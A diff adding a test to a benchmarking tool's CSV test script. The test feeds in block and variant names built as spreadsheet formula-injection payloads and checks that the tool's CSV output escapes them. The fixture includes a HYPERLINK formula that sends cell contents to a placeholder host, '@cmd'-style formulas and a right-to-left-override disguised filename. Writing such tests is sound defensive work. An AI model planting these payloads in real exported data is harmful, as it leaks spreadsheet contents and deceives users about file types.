@@ -1,13 +1,18 @@
 #!/usr/bin/env python3
 """The CSV read by pandas, as its users read it: the block's fields and the swept field are
-numeric columns (no regex on `point`), and throughput is a number (issue 15, item 6).
+numeric columns (no regex on `point`), and throughput is a number (issue 15, item 6). Names a
+spreadsheet would run as formulas (=, +, -, @ first) come out as text with a leading ', numbers
+(negative ones too) as numbers, and bidirectional controls escaped, in compare --csv and in
+history export, read by pandas and by Python's csv module (issue 37, item 11).
 
 usage: csv_pandas_test.py CONVBENCH SOURCE_DIR
 """
+import csv
 import io
 import os
 import subprocess
 import sys
+import tempfile
 
 try:
     import pandas as pd
@@ -19,6 +24,83 @@ except ImportError:
 def csv_of(args):
     out = subprocess.run(args, check=True, capture_output=True, text=True).stdout
     return pd.read_csv(io.StringIO(out))
+
+
+# Block and variant names as an attacker would write them: formulas in every form a spreadsheet
+# runs, a number that is a name, and a right-to-left override.
+FORMULA_SPEC = """blocks:
+  - name: "=HYPERLINK(\\"http://example.invalid/?\\"&A1)"
+    batch: 1
+    in_channels: 4
+    out_channels: 4
+    size: [4, 4]
+    variants:
+      - standard
+      - {kind: separable, name: "+SUM(1,2)"}
+      - {kind: bottleneck, name: "-2+3", ratio: 2}
+      - {kind: grouped, name: "@cmd", groups: 2}
+  - name: "-7"
+    batch: 1
+    in_channels: 4
+    out_channels: 4
+    size: [4, 4]
+    variants: [standard, {kind: separable, name: "evil\\u202Etxt.exe"}]
+"""
+NAMES = {"=HYPERLINK(\"http://example.invalid/?\"&A1)", "+SUM(1,2)", "-2+3", "@cmd", "-7", "standard"}
+
+
+def risky(cell):
+    """A cell a spreadsheet would run as a formula: = + - @ tab or CR first, and not a number."""
+    if not cell or cell[0] not in "=+-@\t\r":
+        return False
+    try:
+        float(cell)
+        return False
+    except ValueError:
+        return True
+
+
+def check_formula_csv(text, what, number_column, failures):
+    rows = list(csv.reader(io.StringIO(text)))
+    cells = [c for row in rows[1:] for c in row]
+    bad = [c for c in cells if risky(c)]
+    if bad:
+        failures.append(f"{what}: cells a spreadsheet runs as formulas: {bad[:5]}")
+    if "\u202e" in text:
+        failures.append(f"{what}: a raw U+202E")
+    if "evil\\u202etxt.exe" not in cells:
+        failures.append(f"{what}: the right-to-left override is not shown escaped")
+    shown = {c[1:] if c.startswith("'") else c for c in cells}
+    if not NAMES <= shown:
+        failures.append(f"{what}: names not read back (after the leading '): {sorted(NAMES - shown)}")
+    if "-7" not in cells:
+        failures.append(f"{what}: the block named -7 (a number) should stay as it is")
+    df = pd.read_csv(io.StringIO(text))
+    for column in df.columns:
+        if pd.api.types.is_object_dtype(df[column]):
+            bad = [c for c in df[column].dropna() if isinstance(c, str) and risky(c)]
+            if bad:
+                failures.append(f"{what}: pandas column {column}: {bad[:3]}")
+    if not pd.api.types.is_numeric_dtype(df[number_column]):
+        failures.append(f"{what}: {number_column} is {df[number_column].dtype}, not numbers")
+
+
+def formula_cells(binary, failures):
+    with tempfile.TemporaryDirectory() as tmp:
+        spec, out, db = (os.path.join(tmp, n) for n in ("formulas.yaml", "formulas.csv", "h.sqlite"))
+        with open(spec, "w", encoding="utf-8") as f:
+            f.write(FORMULA_SPEC)
+        r = subprocess.run([binary, "compare", spec, "--device", "reference", "--min-time", "0", "--min-samples", "2",
+                            "--timeout", "1", "-q", "--csv", out, "--db", db], capture_output=True, text=True)
+        if r.returncode != 0:
+            failures.append(f"compare --csv --db of formula names: {r.returncode} {r.stderr[-300:]}")
+            return
+        check_formula_csv(open(out, encoding="utf-8").read(), "compare --csv", "params", failures)
+        r = subprocess.run([binary, "history", "export", "--db", db], capture_output=True, text=True)
+        if r.returncode != 0:
+            failures.append(f"history export: {r.returncode} {r.stderr[-300:]}")
+        else:
+            check_formula_csv(r.stdout, "history export", "median_ms", failures)
 
 
 def main():
@@ -58,6 +140,7 @@ def main():
         failures.append(f"samples_per_s x median time != batch: {list(ratio)}")
     if list(measured["trust"].unique()) != ["ok"]:
         failures.append(f"trust column: {measured['trust'].unique()}")
+    formula_cells(binary, failures)
     for f in failures:
         print("FAIL:", f)
     return 1 if failures else 0
